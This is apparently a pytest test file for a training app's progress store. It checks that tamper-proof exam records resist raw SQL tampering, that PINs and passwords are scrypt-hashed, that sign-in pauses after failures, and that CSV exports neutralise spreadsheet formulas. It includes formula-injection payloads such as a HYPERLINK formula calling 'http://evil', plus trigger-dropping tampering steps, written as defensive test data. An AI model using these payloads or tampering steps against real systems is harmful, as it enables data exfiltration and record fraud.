"""The frozen exam inside the file, PINs, the sign-in pause, and the spreadsheet guard."""

import csv
import hashlib
import sqlite3
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from tests.progress.conftest import PASSWORD
from trainer.progress import Store, StoreError
from trainer.progress.exams.sittings import ExamPart, create_exam, start_sitting
from trainer.progress.people.accounts import NotAllowed, set_pin, sign_in
from trainer.progress.people.credentials import (
    Secret,
    TooManyFailures,
    check_password_rule,
    check_secret,
    failures,
    hash_secret,
    seconds_to_wait,
)
from trainer.progress.reports.spreadsheets import spreadsheet_safe, write_attempts_csv
from trainer.progress.storage.database import connection as store_db
from trainer.progress.storage.database import writing
from trainer.progress.storage.ledger import add_person, record_attempt
from trainer.progress.storage.schema import PROTECTIVE_TRIGGERS

T0 = datetime.now(UTC) + timedelta(hours=1)


def raw(store):
    """Another program writing to the file, without the app's checks."""
    connection = sqlite3.connect(store.path)
    connection.execute("PRAGMA foreign_keys = ON")
    return connection


@pytest.fixture
def result(store, classroom):
    """The weakest exam result of the demo classroom."""
    return store_db(store).execute(
            "SELECT * FROM exam_results ORDER BY CAST(score_percent AS REAL) "
                            "LIMIT 1").fetchone()


def test_insert_or_replace_cannot_turn_a_failed_result_into_a_pass(store, result):
    columns = ", ".join("?" for _ in result)
    changed = list(result)
    changed[7], changed[8] = "100.0", 1  # score_percent, passed
    with raw(store) as connection, pytest.raises(sqlite3.IntegrityError, match="never replaced"):
        connection.execute(f"INSERT OR REPLACE INTO exam_results VALUES ({columns})", changed)


def test_insert_or_replace_cannot_change_an_exam_answer(store, classroom):
    row = store_db(store).execute("SELECT * FROM attempts WHERE sitting_id IS NOT NULL "
                           "LIMIT 1").fetchone()
    practice = list(row)
    columns = [c[0] for c in store_db(store).execute("SELECT * FROM attempts LIMIT 0").description]
    practice[columns.index("sitting_id")] = None
    practice[columns.index("item_index")] = None
    practice[columns.index("correct")] = 1
    marks = ", ".join("?" for _ in row)
    with raw(store) as connection, pytest.raises(sqlite3.IntegrityError, match="never replaced"):
        connection.execute(f"INSERT OR REPLACE INTO attempts VALUES ({marks})", practice)
    moved = list(row)
    moved[0] = "00000000-0000-4000-8000-000000000001"  # a new id for the same exam item
    with raw(store) as connection, pytest.raises(sqlite3.IntegrityError,
                                                 match="the exam sitting is submitted or unknown"):
        connection.execute(f"INSERT OR REPLACE INTO attempts VALUES ({marks})", moved)


def test_results_go_only_with_their_person(store, result):
    with raw(store) as connection:
        with pytest.raises(sqlite3.IntegrityError, match="only with their person"):
            connection.execute("DELETE FROM exam_results")
        tables = {r[0] for r in connection.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert "deletion_grants" not in tables  # no row there can unlock a deletion any more


@pytest.mark.parametrize("trigger", sorted(PROTECTIVE_TRIGGERS))
def test_a_dropped_or_changed_trigger_is_noticed_on_opening(tmp_path, trigger):
    path = tmp_path / "p.sqlite3"
    Store(path).close()
    with sqlite3.connect(path) as connection:
        connection.execute(f"DROP TRIGGER {trigger}")
    with pytest.raises(StoreError, match=f"lost its protection.*{trigger}") as caught:
        Store(path, backup=False)
    assert caught.value.damaged
    with sqlite3.connect(path) as connection:  # put back, but weakened: still refused
        weakened = PROTECTIVE_TRIGGERS[trigger].replace("BEGIN", "WHEN 0 BEGIN", 1) \
            if " WHEN " not in PROTECTIVE_TRIGGERS[trigger] else \
            PROTECTIVE_TRIGGERS[trigger].replace(" WHEN ", " WHEN 0 AND ", 1)
        connection.execute(weakened)
    with pytest.raises(StoreError, match="lost its protection"):
        Store(path, backup=False)


def test_sign_in_pauses_after_failures_doubling_to_30_seconds(store, instructor):
    person = instructor.person.id
    at = T0
    waits = []
    for _failure in range(8):
        with pytest.raises(NotAllowed, match="password"):
            sign_in(store, person, "wrong password", at=at)
        waits.append(seconds_to_wait(store_db(store), person, at))
        with pytest.raises(TooManyFailures, match="Try again in"):
            sign_in(store, person, PASSWORD, at=at + timedelta(seconds=waits[-1] - 0.5))
        at += timedelta(seconds=waits[-1])
    assert waits == [1, 2, 4, 8, 16, 30, 30, 30]
    sign_in(store, person, PASSWORD, at=at)  # on time, the right password: in, and reset
    assert seconds_to_wait(store_db(store), person, at) == 0
    logged = failures(store_db(store))
    assert len(logged) == 8 and {f.name for f in logged} == {"Mestre Lei"}
    assert failures(store_db(store), 3) == logged[:3]  # the newest, as the desk shows them
    assert failures(store_db(store), 8) == logged


def test_secrets_are_scrypt_hashes_of_a_fresh_16_byte_salt(store, instructor, ana):
    set_pin(store, instructor, ana.person.id, "2468")
    for table, secret in (("credentials", PASSWORD), ("pins", "2468")):
        rows = store_db(store).execute(f"SELECT salt, hash, n, r, p FROM {table}").fetchall()
        [(salt, stored, n, r, p)] = rows
        assert (n, r, p) == (2**14, 8, 1) and len(bytes.fromhex(salt)) == 16
        assert bytes.fromhex(stored) == hash_secret(secret, bytes.fromhex(salt), n, r, p)


def test_a_pin_has_four_to_eight_ascii_digits_and_a_password_eight_characters(store,
                                                                           instructor, ana):
    for pin in ("1234", "12345678"):
        set_pin(store, instructor, ana.person.id, pin)
    for pin in ("123", "123456789", "１２３４", "12 4"):
        with pytest.raises(StoreError, match="A PIN has 4 to 8 digits"):
            set_pin(store, instructor, ana.person.id, pin)
    check_password_rule("8 chars!")
    with pytest.raises(StoreError, match="A password has at least 8 characters"):
        check_password_rule("7 chars")


def test_a_pin_typed_by_a_trainee_who_has_none_is_not_right(store, ana):
    with pytest.raises(NotAllowed, match="The PIN for Ana Lei is not right"):
        sign_in(store, ana.person.id, "2468", at=T0)


def test_a_stored_cost_above_the_most_is_refused_without_hashing(store, ana):
    salt = bytes(16)
    for n, believed in ((2**17, True), (2**18, False)):
        with writing(store) as db:
            db.execute("INSERT OR REPLACE INTO pins (person_id, salt, hash, n, r, p, set_at) "
                       "VALUES (?, ?, ?, ?, 8, 1, '2025-01-01T00:00:00.000Z')",
                       [ana.person.id, salt.hex(), hashlib.scrypt(
                           b"2468", salt=salt, n=n, r=8, p=1, maxmem=2**30, dklen=32).hex(), n])
        assert check_secret(store, Secret.PIN, ana.person.id, "Ana", "2468",
                            T0 + timedelta(minutes=n.bit_length())) is believed


def test_every_cost_a_bundle_may_bring_is_checked_within_scrypts_memory_bound(store, ana):
    """A bundle may bring a secret hashed at any cost its checks let in (``n`` from 2,
    ``p`` up to 4): checking it gives the right answer, never scrypt's memory error."""
    salt = bytes(16)
    for minute, (n, r, p) in enumerate(((2, 1, 4), (2, 16, 4), (8, 1, 4), (4, 8, 2))):
        with writing(store) as db:
            db.execute("INSERT OR REPLACE INTO pins (person_id, salt, hash, n, r, p, set_at) "
                       "VALUES (?, ?, ?, ?, ?, ?, '2025-01-01T00:00:00.000Z')",
                       [ana.person.id, salt.hex(), hashlib.scrypt(
                           b"2468", salt=salt, n=n, r=r, p=p, maxmem=2**30, dklen=32).hex(),
                        n, r, p])
        assert check_secret(store, Secret.PIN, ana.person.id, "Ana", "2468",
                            T0 + timedelta(minutes=minute))


def test_a_pin_proves_the_trainee_and_an_exam_may_ask_for_it(store, instructor, ana):
    exam = create_exam(store, instructor, "PIN check", [ExamPart("thirteen.first_seat", 2, 1)],
                       1, 600, Decimal(50), pin_required=True, same_questions=True)
    with pytest.raises(NotAllowed, match="none yet"):
        start_sitting(store, ana, exam.id)
    with pytest.raises(StoreError, match="4 to 8 digits"):
        set_pin(store, instructor, ana.person.id, "12a4")
    set_pin(store, instructor, ana.person.id, "97531864")
    with pytest.raises(NotAllowed, match="Type it first"):
        start_sitting(store, ana, exam.id)
    with pytest.raises(NotAllowed, match="PIN for Ana Lei is not right"):
        sign_in(store, ana.person.id, "1357", at=T0)
    proven = sign_in(store, ana.person.id, "97531864", at=T0 + timedelta(seconds=1))
    assert start_sitting(store, proven, exam.id).house_rules == exam.house_rules
    with pytest.raises(StoreError, match="Only trainees have a PIN"):
        set_pin(store, instructor, instructor.person.id, "2468")
    # Hashed, never in clear: no value anywhere in the database is the PIN.
    assert not any("'97531864'" in line for line in store_db(store).conn.iterdump())


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\"&A1,\"x\")", "+SUM(1,2)", "-2+3",
                                  "@SUM(1)", "\tx", "\rx"])
def test_spreadsheet_formulas_are_written_as_text(text):
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe(3) == 3 and spreadsheet_safe(-2.5) == -2.5
    assert spreadsheet_safe("Ana = Lei") == "Ana = Lei"


def test_a_trainee_named_like_a_formula_is_harmless_in_the_csv(store, instructor, tmp_path):
    trainee = add_person(store, "=HYPERLINK(\"http://evil\"&A1,\"x\")")
    record_attempt(store, trainee.id, None, {"version": 1, "skill": "thirteen.first_seat",
                                            "seed": 1, "difficulty": 1}, 1, True, 1.0, 900)
    out = tmp_path / "attempts.csv"
    write_attempts_csv(store, instructor, out)
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert rows[1][0] == "'" + trainee.name
    assert not any(cell.startswith("=") for row in rows for cell in row)
